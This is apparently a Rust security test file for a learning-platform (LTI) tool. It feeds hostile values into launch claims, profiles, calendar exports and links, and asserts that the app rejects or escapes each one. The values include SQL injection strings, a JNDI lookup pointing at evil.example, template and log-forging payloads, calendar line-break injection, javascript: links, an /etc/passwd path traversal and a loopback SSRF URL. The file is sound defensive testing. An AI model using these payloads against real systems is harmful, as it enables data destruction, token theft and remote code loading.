//! Names, titles and custom values that want to be something else: a statement, a template, a log entry, a property
//! of a calendar.

use kith_tests::{
    both_databases,
    launcher::{Browser, Client},
    platform::{Person, Standing, faults::LaunchForm, people::somebody},
    server::Test,
    snapshot,
};
use reqwest::{Method, StatusCode};
use serde_json::json;

use super::{address, log};
use crate::tenancy::world::live_in;

/// What is in all of them, so that it can be looked for.
const MARKER: &str = "zzmallory";
const HOSTILE: [&str; 9] = [
    "zzmallory'); DROP TABLE person; --",
    "zzmallory' OR '1'='1",
    "zzmallory\" UNION SELECT token_hash FROM session --",
    "zzmallory $1 ? :name @x %s %n {} {0}",
    "zzmallory {{71*73}} ${71*73} <%= 71*73 %> #{71*73}",
    "zzmallory\r\n{\"level\":\"ERROR\",\"fields\":{\"message\":\"zzmallory forged\"}}",
    "zzmallory\u{1b}[2J\u{1b}]0;owned\u{7}",
    "zzmallory ${jndi:ldap://evil.example/a}",
    "zzmallory \\' \\\" \\x00 %00 \u{202e}",
];

async fn opened(test: &Test, bend: impl FnOnce(LaunchForm) -> LaunchForm) -> anyhow::Result<Client> {
    let page = test.bent(bend).await?;
    let code = page.code().ok_or_else(|| anyhow::anyhow!("{}: {}", page.status, page.body))?;
    Client::open(&page.url, &code).await
}

/// As it is shown: without what cannot be shown.
fn shown(text: &str) -> String {
    text.chars()
        .map(|letter| if matches!(letter, '\r' | '\n') { ' ' } else { letter })
        .filter(|letter| !letter.is_control() && *letter != '\u{202e}')
        .collect::<String>()
        .trim()
        .to_owned()
}

both_databases! {
    async fn n_117_hostile_names_and_titles_are_text_everywhere(test: Test) {
        log::keep();
        let before = snapshot::rows(&test.app.store).await?.len();
        let mut tokens = Vec::new();
        for (number, hostile) in HOSTILE.iter().enumerate() {
            let client = opened(&test, |form| {
                tokens.push(form.token());
                form.claim("sub", format!("{number} {}", &shown(hostile)[..9]))
                    .claim("name", *hostile)
                    .claim("context", json!({"id": shown(hostile), "title": *hostile}))
                    .claim("resource_link", json!({"id": shown(hostile), "title": *hostile}))
                    .claim("custom", json!({"timezone": *hostile, "x": *hostile, "context_history": *hostile}))
                    .claim("tool_platform", json!({"product_family_code": *hostile, "version": *hostile}))
            })
            .await?;
            assert_eq!((client.session.name.as_str(), client.session.course.as_str()), (shown(hostile).as_str(), shown(hostile).as_str()));
            let profile: wire::Profile = client.get("/api/profile").await?;
            assert_eq!((profile.name.as_str(), profile.zone), (shown(hostile).as_str(), None));
            // What people say themselves takes the same way.
            let id: String = url::form_urlencoded::byte_serialize(hostile.as_bytes()).collect::<String>().replace('+', "%20");
            for path in [format!("/api/meetings/{id}/calendar"), format!("/api/slots?minutes={id}")] {
                let answer = client.ask(Method::GET, &path, None::<&()>).await?;
                assert!(answer.status.is_client_error(), "{path}: {}", answer.status);
            }
            let hours = json!({"zone": hostile, "weekly": []});
            let answer = client.ask(Method::PUT, "/api/availability", Some(&hours)).await?;
            assert_eq!(answer.status, StatusCode::UNPROCESSABLE_ENTITY);
            let said = json!({"languages": [hostile], "experience": 1, "wants_group": true, "seen_by": "group"});
            let answer = client.ask(Method::PUT, "/api/profile", Some(&said)).await?;
            assert_eq!(answer.status, StatusCode::UNPROCESSABLE_ENTITY);
            tokens.push(client.session.token);
        }
        assert!(snapshot::rows(&test.app.store).await?.len() > before, "no table is gone");
        assert_eq!(test.count("SELECT COUNT(*) FROM person").await?, i64::try_from(HOSTILE.len())?);

        // Refusals and the login take the same words.
        for hostile in HOSTILE {
            for bend in [
                |form: LaunchForm, text: &str| form.claim("iss", text),
                |form: LaunchForm, text: &str| form.claim("deployment_id", text),
                |form: LaunchForm, text: &str| form.header("kid", text),
                |form: LaunchForm, text: &str| form.header("alg", text),
                |form: LaunchForm, text: &str| form.state(Some(text)),
                |form: LaunchForm, text: &str| form.field("error", text).field("error_description", text),
            ] {
                let page = test.bent(|form| bend(form, hostile)).await?;
                assert_eq!(page.status, StatusCode::UNAUTHORIZED, "{}", page.body);
            }
            let fields: Vec<_> = ["iss", "login_hint", "target_link_uri", "client_id"].map(|name| (name.to_owned(), hostile.to_owned())).into();
            let page = Browser::new()?.send(Method::POST, &address(&test, "/lti/login"), Some(&fields)).await?;
            assert!(page.status.is_client_error());
        }
        let logged = log::read();
        assert!(logged.contains("launch refused"), "nothing was logged");
        assert!(!logged.contains(MARKER), "{}", logged.lines().find(|line| line.contains(MARKER)).unwrap_or_default());
        assert!(!logged.contains("ERROR"), "{logged}");
        for token in tokens {
            assert!(!logged.contains(&token), "a token is logged");
        }
    }

    async fn n_117_what_a_teacher_types_is_a_title_and_nothing_else(test: Test) {
        for hostile in HOSTILE {
            let back = format!("{}/back", test.platform.origin());
            let choosing = |form: LaunchForm| {
                form.claim("message_type", "LtiDeepLinkingRequest").claim(
                    "https://purl.imsglobal.org/spec/lti-dl/claim/deep_linking_settings",
                    json!({"deep_link_return_url": back, "accept_types": ["ltiResourceLink"], "data": hostile}),
                )
            };
            let mut browser = Browser::new()?;
            let picker = browser.launch_bent(test.moodle(), test.course, "tessa", choosing).await?;
            let code = picker.form()?.fields[0].clone();
            let said = [code, ("view".to_owned(), "map".to_owned()), ("title-map".to_owned(), hostile.to_owned())];
            let sent = browser.send(Method::POST, &address(&test, "/lti/select"), Some(&said)).await?;
            let jwt = sent.form()?.fields.into_iter().find(|(name, _)| name == "JWT").unwrap().1;
            let claims: serde_json::Value = jsonwebtoken::dangerous::insecure_decode(&jwt)?.claims;
            let title = &claims["https://purl.imsglobal.org/spec/lti-dl/claim/content_items"][0]["title"];
            let title = title.as_str().unwrap_or_default();
            assert!(title.starts_with(MARKER) && !title.contains(char::is_control), "{title:?}");
            assert_eq!(claims["https://purl.imsglobal.org/spec/lti-dl/claim/data"], hostile, "returned unaltered");
        }
    }

    async fn n_119_a_name_with_line_breaks_makes_no_property_of_a_calendar(test: Test) {
        let evil = "Bo\r\nATTENDEE:mailto:zzmallory@evil.example\r\nEND:VEVENT\u{2028}X";
        let named = |username: &str, number| Person {
            family: evil.to_owned(),
            ..somebody(username, "Given", "", Standing::Learner, number)
        };
        let mut members = vec![somebody("teach", "Tea", "Cher", Standing::Instructor, 70)];
        members.extend([named("one", 71), named("two", 72), named("three", 73)]);
        let course = test.moodle().open_course("ICS-1", evil, &members);
        let people = [("one", "Europe/Oslo"), ("two", "Asia/Kathmandu"), ("three", "America/New_York")];
        let estate = live_in(&test, test.moodle(), course, "teach", &people, "https://rooms.example/a;b,c?d=%0D%0AX:1").await?;
        let path = format!("/api/meetings/{}/calendar", estate.treasure.meeting);
        let answer = estate.learner.ask(Method::GET, &path, None::<&()>).await?;
        assert_eq!(answer.status, StatusCode::OK);
        assert_eq!(answer.headers["content-type"], "text/calendar; charset=utf-8");
        let unfolded = answer.body.replace("\r\n ", "");
        assert!(unfolded.contains("zzmallory"), "the name is there, as text: {unfolded}");
        let properties: Vec<&str> = unfolded.split("\r\n").filter_map(|line| line.split([':', ';']).next()).collect();
        assert!(!properties.contains(&"ATTENDEE") && !properties.contains(&"X"), "{properties:?}");
        assert_eq!(properties.iter().filter(|name| **name == "END").count(), 2, "{unfolded}");
        assert!(unfolded.split("\r\n").all(|line| !line.contains(['\r', '\n', '\u{2028}'])), "{unfolded:?}");

        // A link with a line break is no link.
        for link in ["https://rooms.example/\r\nATTENDEE:x", "https://rooms.example/\nX", "javascript:alert(1)", "data:text/html,x"] {
            let wish = json!({"starts_at": "2026-12-02T18:00:00Z", "minutes": 60, "link": link});
            let answer = estate.learner.ask(Method::POST, "/api/meetings", Some(&wish)).await?;
            if answer.status.is_success() {
                let meeting: wire::Meeting = answer.json()?;
                let kept = meeting.link.unwrap_or_default();
                assert!(kept.starts_with("https://") && !kept.contains(char::is_control), "{link:?} became {kept:?}");
            } else {
                assert_eq!(answer.status, StatusCode::UNPROCESSABLE_ENTITY, "{link:?}");
            }
        }
    }

    async fn n_120_a_zone_that_is_none_is_asked_for(test: Test) {
        for (said, zone) in [
            (json!("99"), None),
            (json!("$Person.address.timezone"), None),
            (json!(""), None),
            (json!(null), None),
            (json!(5.5), None),
            (json!("GMT+2"), None),
            (json!("EST5EDT"), None),
            (json!("Mars/Phobos"), None),
            (json!("../../etc/passwd"), None),
            (json!("Europe/Kiev"), Some("Europe/Kiev")),
            (json!("europe/oslo"), Some("Europe/Oslo")),
            (json!("Asia/Calcutta"), Some("Asia/Calcutta")),
        ] {
            let subject = format!("zoned {said}").replace('"', "");
            let client = opened(&test, |form| {
                form.claim("sub", subject).claim("custom", json!({"timezone": said.clone()}))
            })
            .await?;
            let profile: wire::Profile = client.get("/api/profile").await?;
            assert_eq!(profile.zone.as_deref(), zone, "{said}");
            assert_eq!(profile.zone_source, zone.map(|_| wire::ZoneSource::Platform), "not confirmed by anybody");
        }
    }

    async fn n_87_the_roster_is_where_the_launch_said_it_is(test: Test) {
        let teacher = test.sign_in("tessa").await?;
        test.roster_read(&teacher, test.clock.now()).await?;
        let reads = test.moodle().seen().roster_requests;
        let stored = test.count("SELECT COUNT(*) FROM course WHERE roster_url LIKE '%/mod/lti/%'").await?;
        assert_eq!(stored, 1);
        test.wait(jiff::SignedDuration::from_hours(1));
        let teacher = test.sign_in("tessa").await?;
        let before = test.clock.now();
        let evil = json!({"context_memberships_url": "http://127.0.0.1:1/evil", "course": "x", "url": "http://127.0.0.1:1/"});
        for path in [
            "/api/roster/refresh?context_memberships_url=http://127.0.0.1:1/evil&url=http://127.0.0.1:1/",
            "/api/roster/refresh",
        ] {
            let answer = teacher.ask(Method::POST, path, Some(&evil)).await?;
            assert!(answer.status.is_success(), "{}", answer.body);
        }
        let roster = test.roster_read(&teacher, before).await?;
        assert_eq!(roster.trouble, None);
        assert!(test.moodle().seen().roster_requests > reads);
        assert_eq!(test.count("SELECT COUNT(*) FROM course WHERE roster_url LIKE '%evil%' OR roster_url LIKE '%:1/%'").await?, 0);
    }

    async fn n_74_a_launch_in_an_address_is_refused_and_not_logged(test: Test) {
        log::keep();
        let mut browser = Browser::new()?;
        let started = browser.start(test.platform.origin(), test.course, "ana").await?;
        let form = test.moodle().launch_form(&started.request)?;
        let token = form.token();
        let query = url::form_urlencoded::Serializer::new(String::new()).extend_pairs(form.clone().into_fields()).finish();
        for path in ["/lti/launch", "/lti/launch/storage"] {
            let page = browser.send(Method::GET, &address(&test, &format!("{path}?{query}")), None).await?;
            assert_eq!(page.status, StatusCode::METHOD_NOT_ALLOWED);
            let page = browser.send(Method::POST, &address(&test, &format!("{path}?{query}")), Some(&[])).await?;
            assert!(page.status.is_client_error(), "{}", page.status);
            assert!(page.code().is_none() && !page.body.contains(&token));
        }
        assert!(!log::read().contains(&token));
        assert!(browser.post_launch(form).await?.code().is_some(), "the login was not spent by it");
    }
}
